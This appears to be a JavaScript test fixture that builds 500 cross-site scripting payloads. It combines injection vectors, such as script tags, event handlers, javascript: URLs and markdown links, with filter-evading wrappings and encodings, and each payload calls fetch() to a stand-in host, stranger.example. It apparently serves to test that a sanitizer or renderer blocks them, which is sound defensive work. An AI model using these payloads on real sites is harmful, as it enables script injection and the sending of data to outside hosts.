// Texts that would run a script, or call a stranger, on a page that took them for markup: every way in, in every wrapping.
// Each would say its number to the page (`__ran`) and to an address outside.

const OUTSIDE = "https://stranger.example/";
const RUNS = (n) => `(globalThis.__ran??=[]).push(${n}),fetch('${OUTSIDE}${n}')`;

const WAYS_IN = [
	(js) => `<script>${js}</script>`,
	(js) => `<img src=x onerror="${js}">`,
	(js) => `<svg onload="${js}">`,
	(js) => `<svg><script>${js}</script></svg>`,
	(js) => `<math><mtext><img src=x onerror="${js}"></mtext></math>`,
	(js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
	(js) => `<iframe src="javascript:${js}"></iframe>`,
	(js) => `<details open ontoggle="${js}">`,
	(js) => `<input autofocus onfocus="${js}">`,
	(js) => `<video><source onerror="${js}"></video>`,
	(js) => `<style onload="${js}"></style>`,
	(js) => `<body onpageshow="${js}">`,
	(js) => `<marquee onstart="${js}">x</marquee>`,
	(js) => `<object data="javascript:${js}"></object>`,
	(js) => `<embed src="javascript:${js}">`,
	(js) => `<a href="javascript:${js}">press</a>`,
	(js) => `<form action="javascript:${js}"><button>press</button></form>`,
	(js) => `[press](javascript:${encodeURI(js)})`,
	(js) => `![x](x" onerror="${js})`,
	(js) => `<javascript:${js}>`,
	(_, n) => `![x](${OUTSIDE}${n}.png)`,
	(_, n) => `<img src="${OUTSIDE}${n}.png">`,
	(_, n) => `<link rel=stylesheet href="${OUTSIDE}${n}.css">`,
	(_, n) => `<meta http-equiv=refresh content="0;url=${OUTSIDE}${n}">`,
	(js) => `<base href="${OUTSIDE}"><a href="x" onmouseover="${js}">x</a>`,
];
const WRAPPINGS = [
	(text) => text,
	(text) => `"'>${text}`,
	(text) => `</title></textarea></style></script>${text}`,
	(text) => `-->${text}<!--`,
	(text) => `\`\`\`\n${text}`,
	(text) => `**${text}**`,
	(text) => `> ${text}`,
	(text) => `| a |\n| - |\n| ${text} |`,
	(text) => text.replaceAll("<", "<\u0000").replaceAll("\u0000", ""),
	(text) => text.toUpperCase().replaceAll("GLOBALTHIS.__RAN", "globalThis.__ran"),
	(text) => text.replaceAll("javascript:", "java\tscript:"),
	(text) => text.replaceAll("javascript:", "JaVaScRiPt:"),
	(text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
	(text) => text.replaceAll("<", "\\u003c"),
	(text) => text.replaceAll("<", "%3C"),
	(text) => text.replaceAll(" ", "/"),
	(text) => text.replaceAll('"', "`"),
	(text) => `<x ${text}`,
	(text) => `${text}<${text}`,
	(text) => `\u2028${text}\u2029`,
];

/** Five hundred of them. */
export const PAYLOADS = WAYS_IN.flatMap((way, i) =>
	WRAPPINGS.map((wrapped, k) => {
		const n = i * WRAPPINGS.length + k;
		return wrapped(way(RUNS(n), n));
	}),
);
